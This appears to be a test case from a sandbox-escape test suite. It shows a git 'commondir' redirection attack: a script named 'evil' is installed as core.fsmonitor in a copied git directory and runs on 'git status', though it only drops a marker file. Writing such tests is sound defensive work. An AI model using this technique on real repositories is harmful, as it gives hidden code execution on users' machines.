import { type Attack, sh } from '../attack.js'
import { repository, sprung } from '../repository.js'

export const attack: Attack = {
  id: 'git/common-directory',
  tries: 'to redirect the repository to a directory of its own',
  source: 'srt 4B.1, 2 and 3 (commondir)',
  prepare: (stage) => repository(stage),
  program: sh`printf '#!/bin/sh\n: > "$OUT/sprung"\n' > "$S/evil" && chmod +x "$S/evil"
cp -r "$W/.git" "$S/common" && git --git-dir "$S/common" config core.fsmonitor "$S/evil" && echo "$S/common" > "$W/.git/commondir"`,
  succeeded: sprung('w', 'status'),
  control: 'plain',
}
